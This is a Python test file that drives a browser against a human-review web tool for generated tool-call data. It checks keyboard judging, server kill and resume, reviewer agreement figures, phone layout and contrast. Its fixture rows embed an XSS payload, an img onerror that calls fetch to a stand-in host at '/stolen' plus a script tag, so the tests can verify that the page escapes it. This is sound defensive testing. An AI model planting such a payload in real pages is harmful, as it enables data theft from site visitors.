"""The page of a review in a real browser: judged by keyboard, ended, killed, gone on with, and counted right."""

import asyncio
import json
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from aiohttp import web
from scipy.stats import binomtest

from apigen_ray.config import SAMPLE
from apigen_ray.records import content_hash, dumps
from apigen_ray.review.judgements import read_words
from apigen_ray.review.run import review_run
from apigen_ray.review.sample import Sample, open_sample
from apigen_ray.review.server import Desk, application
from apigen_ray.rundir import RunDir
from apigen_ray.storage import write_once
from apigen_ray.tables import table_of

if TYPE_CHECKING:
    from playwright.sync_api import Page

POPULATION = {"verified": 30, "fail_format": 10, "fail_grounding": 20, "fail_semantic": 20}
ROWS = 25
PHONE = 390


def row(number: int, verdict: str) -> dict[str, Any]:
    """A row of two calls; what a model wrote in it means to break out of the page."""
    hostile = "<img src=x onerror=\"fetch('http://192.0.2.1/stolen')\"><script>throw 1</script>"
    fields = {f"p{n}": {"type": "integer", "description": f"Number {n}."} for n in range(3)}
    tools = [
        {"name": name, "description": f"Does {name}. {hostile}", "parameters": {"type": "object", "properties": fields}}
        for name in ("spare", "called")
    ]
    calls = [{"name": "called", "arguments": {"p0": n, "p1": hostile}} for n in range(2)]
    results = [{"status": "passed", "value": dumps({"sum": n, "text": hostile})} for n in range(2)]
    failed = verdict.removeprefix("fail_")
    return {
        **{"sample_id": content_hash("row", number), "round": 0, "index": number, "style": "parallel"},
        **{"generator": "model", "query": f"Query {number}? {hostile}", "tools": dumps(tools), "answers": dumps(calls)},
        **{"results": dumps(results), f"{failed}_status": "rejected", f"{failed}_code": "hidden_code"},
        "verdict": verdict,
    }


@pytest.fixture
def run(tmp_path: Path) -> Path:
    run, files = RunDir(tmp_path / "run"), []
    run.update_manifest(fingerprint="f1")
    for place, (verdict, rows) in enumerate(POPULATION.items()):
        table = table_of([row(1_000 * place + n, verdict) for n in range(rows)], SAMPLE)
        write_once(table, run.samples(0) / f"verdict={verdict}", "part-a")
        files.append(run.samples(0) / f"verdict={verdict}" / "part-a.parquet")
    run.close_round(0, files)
    return run.path


@pytest.fixture
def sample(run: Path) -> Sample:
    return open_sample(run, run / "review", ROWS)


class Served:
    """``apigen review --serve`` in a process of its own."""

    def __init__(self, run: Path, *options: str) -> None:
        command = [sys.executable, "-m", "apigen_ray.cli", "review", str(run), "--serve", "--json", *options]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        assert self.process.stderr is not None
        line = self.process.stderr.readline()
        found = re.search(r"http://\S+", line)
        assert found, line + self.process.communicate()[1]
        self.address = found[0]

    def end(self, number: signal.Signals) -> str:
        self.process.send_signal(number)
        out, err = self.process.communicate(timeout=60)
        assert "Traceback" not in err
        assert self.process.returncode == (-9 if number == signal.SIGKILL else 0)
        return out


@pytest.fixture
def serve(run: Path, sample: Sample) -> Iterator[Callable[..., Served]]:
    all_served: list[Served] = []

    def start(*options: str) -> Served:
        all_served.append(Served(run, *options))
        return all_served[-1]

    yield start
    for served in all_served:
        if served.process.poll() is None:
            served.process.kill()
            served.process.communicate()


@pytest.fixture
def served_here(sample: Sample) -> Iterator[Callable[..., str]]:
    """The same server in a thread of this process: its address, for a reviewer or for whoever says a name."""
    loop, desks = asyncio.new_event_loop(), []
    thread = threading.Thread(target=loop.run_forever)
    thread.start()
    runners: list[web.AppRunner] = []

    async def start(desk: Desk) -> int:
        runners.append(web.AppRunner(application(desk), shutdown_timeout=1))
        await runners[-1].setup()
        site = web.TCPSite(runners[-1], "127.0.0.1", 0)
        await site.start()
        return int(runners[-1].addresses[0][1])

    def address(reviewer: str | None = None) -> str:
        desks.append(Desk(sample, reviewer))
        port = asyncio.run_coroutine_threadsafe(start(desks[-1]), loop).result(30)
        return f"http://127.0.0.1:{port}/{desks[-1].token}/"

    yield address
    for runner, desk in zip(runners, desks, strict=True):
        asyncio.run_coroutine_threadsafe(runner.cleanup(), loop).result(30)
        desk.close()
    loop.call_soon_threadsafe(loop.stop)
    thread.join()
    loop.close()


@pytest.fixture
def see() -> Callable[..., None]:
    """``see(page.locator("#place"), "Row 2 of 25")``: waits until it says so."""
    from playwright.sync_api import expect

    return lambda where, words: expect(where).to_have_text(words, timeout=30_000)


See = Callable[..., None]


def begin(page: "Page", address: str, name: str) -> None:
    page.goto(address)
    page.get_by_label("Your name").fill(name)
    page.keyboard.press("Enter")


def leave(page: "Page") -> None:
    """Closes what the page asks for ahead, which would be refused once the server ends."""
    page.goto("about:blank")


def press(page: "Page", see: See, keys: str, place: int, rows: int = ROWS) -> None:
    """Presses keys on a row, and waits for what the page shows next."""
    see(page.locator("#place"), f"Row {place} of {rows}")
    for key in keys:
        page.keyboard.press(key)
    see(page.locator("#said"), re.compile(rf"^Row {place}: \w+\. Saved\.$"))


KEYS = ["g", "g", "b2b", "u", "g"] * 5
"""What the first reviewer presses, row after row; of each five rows three are good, one is bad, one is undecided."""


def test_twenty_rows_a_kill_an_end_and_a_second_reviewer(
    serve: Callable[..., Served],
    served_here: Callable[..., str],
    new_page: Callable[..., "Page"],
    sample: Sample,
    see: See,
    faults: list[str],
) -> None:
    served, page = serve(), new_page()
    begin(page, served.address, "Ann")
    for place in range(1, 13):
        press(page, see, KEYS[place - 1], place)
    served.end(signal.SIGKILL)
    assert len(read_words(sample)[0].said) == 12
    page.keyboard.press("g")  # nobody is there to keep it: the page says so, and stays
    see(page.locator("#problem"), re.compile("The server has gone"))
    see(page.locator("#place"), f"Row 13 of {ROWS}")
    assert faults
    assert all("ERR_CONNECTION" in fault for fault in faults)
    faults.clear()

    served = serve()
    begin(page, served.address, "Ann")
    for place in range(13, 21):
        press(page, see, KEYS[place - 1], place)
    leave(page)
    assert json.loads(served.end(signal.SIGINT))["sample"]["judged"] == 20

    address = served_here()
    begin(page, address, "Ann")  # the next row is the 21st
    see(page.locator("#count"), "20 judged, 5 left")
    for place in range(21, 26):
        press(page, see, KEYS[place - 1], place)
    see(page.locator("#end-title"), "All 25 rows are judged. Thank you, Ann.")
    page.get_by_role("button", name="Somebody else judges").click()
    page.get_by_label("Your name").wait_for()

    other = new_page()
    begin(other, address, "Bob")
    for place in range(1, 6):
        press(other, see, "g", place)
    other.keyboard.press("f")
    other.locator("#figures-body .tile").first.wait_for()
    form = review_run(sample.folder.parent)

    said = {words.reviewer: [words.said.get(name) for name in sample.ids] for words in read_words(sample)}
    expected = ["good", "good", "bad", "unsure", "good"] * 5
    assert [each and each.word for each in said["Ann"]] == expected
    assert [each and each.word for each in said["Bob"]] == ["good"] * 5 + [None] * 20
    assert said["Ann"][2] is not None
    assert said["Ann"][2].grounds == ("wrong_arguments",)

    # Bob's good takes away what made row 3 bad and row 4 undecided: a tie, and one for good
    settled = [*expected[:2], "undecided", "good", *expected[4:]]
    verdicts = [sample.cells[name][0] for name in sample.ids]
    shares = {}
    for each in form["verdicts"]:
        words = [word for word, verdict in zip(settled, verdicts, strict=True) if verdict == each["verdict"]]
        good, judged = words.count("good"), words.count("good") + words.count("bad")
        interval = binomtest(good, judged).proportion_ci(0.95, method="wilson")
        assert each["share"] == pytest.approx({"value": good / judged, "low": interval.low, "high": interval.high})
        shares[each["verdict"]] = good / judged
    good_rows = {verdict: POPULATION[verdict] * share for verdict, share in shares.items()}
    recall = good_rows["verified"] / sum(good_rows.values())
    assert form["pipeline"]["recall"]["value"] == pytest.approx(recall)
    (pair,) = form["agreement"]
    assert (pair["reviewers"], pair["rows"], pair["table"]) == (["Ann", "Bob"], 5, [[3, 0, 0], [1, 0, 0], [1, 0, 0]])
    assert pair["agreed"]["value"] == 3 / 5
    assert pair["kappa"]["value"] == pytest.approx((0.6 - 0.6) / (1 - 0.6))
    tiles = other.locator("#figures-body .tile b").all_inner_texts()
    assert tiles[0] == f"{100 * shares['verified']:.1f} %"
    assert tiles[2] == f"{100 * recall:.1f} %"


def test_a_row_is_judged_blind_changed_undone_and_revealed(
    served_here: Callable[..., str], page: "Page", sample: Sample, see: See
) -> None:
    begin(page, served_here(), "Ann")
    see(page.locator("#place"), f"Row 1 of {ROWS}")
    whole = page.content()
    assert "hidden_code" not in whole
    assert not re.search("verified|fail_|rejected", page.locator("main").inner_text())
    query = sample.row(0)["query"]
    see(page.locator(".query"), query)  # as it was written, no part of the page
    assert page.locator("main img, main script").count() == 0
    assert page.locator("aside summary code").all_inner_texts() == ["called", "spare"]
    assert page.locator(".call").count() == 2

    page.keyboard.press("r")
    see(page.locator("#problem"), re.compile("Judge the row first"))
    for key in ("b", "1", "5", "1", "n"):
        page.keyboard.press(key)
    page.keyboard.type("g is no key here")
    page.keyboard.press("Escape")
    page.keyboard.press("Enter")
    see(page.locator("#said"), "Row 1: bad. Saved.")
    (words,) = read_words(sample)
    assert words.said[sample.ids[0]].model_dump(mode="json") == {
        **{"word": "bad", "grounds": ["unclear"], "note": "g is no key here"}
    }
    press(page, see, "g", 2)
    see(page.locator("#place"), f"Row 3 of {ROWS}")
    page.keyboard.press("z")
    see(page.locator("#said"), "Row 2: undone.")
    see(page.locator("#place"), f"Row 2 of {ROWS}")
    assert read_words(sample)[0].said.keys() == {sample.ids[0]}
    page.keyboard.press("ArrowLeft")
    see(page.locator("#word"), "bad")
    assert page.locator("#note").input_value() == "g is no key here"
    press(page, see, "u", 1)  # judged anew, and back at the first that is not
    see(page.locator("#place"), f"Row 2 of {ROWS}")
    page.keyboard.press("k")
    see(page.locator("#word"), "unsure")
    page.keyboard.press("r")
    see(page.locator("#story .query"), sample.cells[sample.ids[0]][0])
    page.keyboard.press("g")
    see(page.locator("#problem"), re.compile("its judgement stays"))
    assert page.locator("#good").is_disabled()
    page.reload()  # the name is remembered, and that the row is settled
    see(page.locator("#place"), f"Row 2 of {ROWS}")
    page.keyboard.press("ArrowLeft")
    see(page.locator("#word"), "unsure, settled")
    page.keyboard.press("f")
    page.locator("#figures-body .tile").first.wait_for()
    see(page.locator("#figures-body table").first.locator("caption"), "By verdict")
    page.keyboard.press("Escape")
    page.keyboard.press("?")
    page.locator("#help").wait_for()
    page.get_by_label("Keys are on").uncheck()
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    see(page.locator("#place"), f"Row 1 of {ROWS}")
    assert len(read_words(sample)[0].said) == 1


def test_a_key_that_is_held_down_judges_one_row(
    served_here: Callable[..., str], page: "Page", sample: Sample, see: See
) -> None:
    page.goto(served_here("Ann"))
    see(page.locator("#place"), f"Row 1 of {ROWS}")
    for _ in range(5):
        page.keyboard.down("g")  # the second and later ones are the keyboard's own
    page.keyboard.up("g")
    press(page, see, "u", 2)
    assert [judgement.word for judgement in read_words(sample)[0].said.values()] == ["good", "unsure"]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_on_a_phone_is_as_wide_as_the_phone_and_can_be_read(
    served_here: Callable[..., str], new_page: Callable[..., "Page"], see: See, scheme: str
) -> None:
    page = new_page(viewport={"width": PHONE, "height": 844}, color_scheme=scheme, has_touch=True)
    page.goto(served_here("Ann"))
    see(page.locator("#place"), f"Row 1 of {ROWS}")
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE
    page.get_by_role("button", name="Bad").tap()
    page.get_by_label("Query unclear").tap()
    page.get_by_role("button", name="Keep bad").tap()
    see(page.locator("#said"), "Row 1: bad. Saved.")
    page.get_by_role("button", name="Figures").tap()
    page.locator("#figures-body .tile").first.wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE
    assert page.evaluate(FAINT) == []


FAINT = """() => {
  const parts = (colour) => colour.match(/[\\d.]+/g).map(Number);
  const light = (colour) => {
    const linear = (part) => (part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
    const [r, g, b] = parts(colour).map((part) => linear(part / 255));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const behind = (element) => {
    for (let each = element; each; each = each.parentElement) {
      const colour = getComputedStyle(each).backgroundColor;
      if ((parts(colour)[3] ?? 1) === 1) return colour;
    }
    return "rgb(255, 255, 255)";
  };
  const faint = [];
  for (const element of document.querySelectorAll("body *")) {
    const says = [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim());
    if (!says || !element.checkVisibility() || element.closest(":disabled")) continue;
    const [one, other] = [light(getComputedStyle(element).color), light(behind(element))].sort((a, b) => b - a);
    if ((one + 0.05) / (other + 0.05) < 4.5) faint.push(`${element.tagName}: ${element.textContent}`);
  }
  return faint;
}"""
"""Texts whose contrast is below 4.5 : 1, which WCAG 2.2 asks for (1.4.3, AA)."""
